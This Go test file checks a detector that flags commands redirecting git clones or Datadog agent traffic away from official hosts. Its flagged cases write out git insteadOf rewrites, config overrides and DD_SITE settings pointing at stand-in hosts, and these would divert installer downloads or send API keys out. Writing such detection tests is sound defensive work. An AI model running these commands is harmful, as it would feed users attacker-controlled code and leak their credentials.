package hosts

import "testing"

// TestMovesGitAndDatadogSite (lead17): git's URL rewriting to a host other
// than the public code hosts, however it is set, and git pointed at
// another configuration file, move the clone an official installer makes
// (nvm's, Homebrew's, Scoop's); DD_SITE set to a host that is not one of
// Datadog's sites sends the agent's key and data there. Honest twins:
// a rewrite to ssh on github.com, Datadog's own sites, the user's values.
func TestMovesGitAndDatadogSite(t *testing.T) {
	for _, c := range []struct {
		text  string
		moves bool
	}{
		{"export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://git.example-mirror.dev/nvm/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/nvm-sh/nvm", true},
		{"git config --global url.\"https://git.example-mirror.dev/\".insteadOf \"https://github.com/\"", true},
		{"git -c url.https://git.example-mirror.dev/.insteadOf=https://github.com/ clone https://github.com/nvm-sh/nvm", true},
		{"export GIT_CONFIG_PARAMETERS=\"'url.https://198.51.100.4/.insteadof'='https://github.com/'\"", true},
		{"cat >> ~/.gitconfig <<'G'\n[url \"https://git.example-mirror.dev/\"]\n\tinsteadOf = https://github.com/\nG", true},
		{"export GIT_CONFIG_GLOBAL=\"$PWD/.tools/gitconfig\"", true},
		{"export DD_SITE=\"metrics.example-dd.net\"", true},
		{"DD_API_KEY=$1 DD_SITE=ingest.example-dd.net bash -c \"$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)\"", true},
		{"S=ingest.example-dd.net; DD_SITE=$S bash install.sh", true},
		{"DD_SITE_X=ingest.example-dd.net; DD_SITE=$DD_SITE_X bash install.sh", true},
		// Honest twins.
		{"git config --global url.\"git@github.com:\".insteadOf \"https://github.com/\"", false},
		{"git config --global url.\"ssh://git@gitlab.com/\".insteadOf \"https://gitlab.com/\"", false},
		{"git config --global url.\"https://oauth2:${GITLAB_TOKEN}@gitlab.com/\".insteadOf \"https://gitlab.com/\"", false},
		{"DD_API_KEY=<YOUR_API_KEY> DD_SITE=\"datadoghq.eu\" bash -c \"$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)\"", false},
		{"DD_SITE=\"us5.datadoghq.com\" DD_API_KEY=\"$DD_API_KEY\" bash install.sh", false},
		{"DD_SITE=\"${DD_SITE:-datadoghq.com}\" bash install.sh", false},
		{"the insteadOf setting is explained in git's documentation", false},
	} {
		if got := MovesRepository(c.text); got != c.moves {
			t.Errorf("MovesRepository(%q) = %v, want %v", c.text, got, c.moves)
		}
	}
}
